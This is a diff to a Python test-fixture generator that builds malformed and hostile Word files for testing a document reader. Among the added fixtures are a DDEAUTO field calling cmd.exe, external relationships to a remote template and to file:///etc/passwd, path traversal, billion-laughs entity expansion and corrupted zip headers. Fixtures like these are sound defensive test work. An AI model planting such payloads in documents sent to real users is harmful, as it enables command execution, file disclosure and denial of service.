@@ -11,6 +11,7 @@ from collections.abc import Iterator, Mapping
 from ..readers.word.building import MAIN_TYPE, NAMESPACES, PROSE, p, word_file
 
 BODY = "word/document.xml"
+RELATIONS = "word/_rels/document.xml.rels"
 ENTITIES = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
 LAUGHS = f'<!DOCTYPE w [<!ENTITY e0 "ha">{ENTITIES}]>'
 COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
@@ -52,6 +53,41 @@ def word_sources() -> Iterator[tuple[str, bytes]]:
     )
     yield "slipping.docx", with_entries(good(), {"../../../slipped.xml": b"<a/>", "/slipped.xml": b"<a/>"})
     yield "device.docx", with_entries(good(), {"word/CON.xml": b"<a/>", "word/a\x01b.xml": b"<a/>"})
+
+    yield "outside-parts.docx", with_entries(good(), {RELATIONS: relations()})
+    yield "chunk.docx", with_entries(word_file(p(PROSE) + '<w:altChunk r:id="r3"/>'), {RELATIONS: relations()})
+    yield "order.docx", word_file(p(PROSE) + '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>')
+    yield "open-fields.docx", word_file('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 900 + p(PROSE))
+    yield "laughing-styles.docx", with_entries(good(), {"word/styles.xml": f"{LAUGHS}<w>&e9;</w>".encode()})
+    yield "nested-properties.docx", with_entries(good(), {"_rels/.rels": b"<a>" * 50_000})
+    yield "many-numbers.docx", word_file(p(PROSE, extra=f'<w:outlineLvl w:val="{"9" * 5_000}"/>'))
+    yield "bad-letters.docx", with_entries(good(), {BODY: document(p(PROSE)).encode().replace(b"e", b"\xff")})
+    yield "same-place.docx", _patched(good(), b"PK\x01\x02", 42, struct.pack("<I", 0))
+    yield "unknown-packing.docx", _patched(good(), b"PK\x01\x02", 10, struct.pack("<H", 99))
+    yield "wrong-checks.docx", _patched(good(), b"PK\x01\x02", 16, struct.pack("<I", 1))
+    yield "endless-sizes.docx", _patched(good(), b"PK\x01\x02", 24, struct.pack("<I", 0xFFFFFFF0))
+    yield "far-directory.docx", far_directory()
+    yield "before.docx", b"#!/bin/sh\n" + good()
+
+
+def relations() -> bytes:
+    """Relationships of the body with what lies outside the file."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    targets = {"attachedTemplate": "http://192.0.2.1/x.dotm", "image": "file:///etc/passwd", "aFChunk": "x.html"}
+    rows = "".join(
+        f'<Relationship Id="r{number}" Type="{kind}/{name}" Target="{target}" TargetMode="External"/>'
+        for number, (name, target) in enumerate(targets.items(), start=1)
+    )
+    inside = f'<Relationship Id="r9" Type="{kind}/footnotes" Target="../../../../etc/passwd"/>'
+    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return f'<Relationships xmlns="{namespace}">{rows}{inside}</Relationships>'.encode()
+
+
+def far_directory() -> bytes:
+    """An archive whose directory for large files (zip64) says that it stands far behind the end."""
+    data = good()
+    end = data.rfind(b"PK\x05\x06")
+    return data[:end] + b"PK\x06\x07" + struct.pack("<IQI", 0, 2**62, 1) + data[end:]
 
 
 def good() -> bytes:
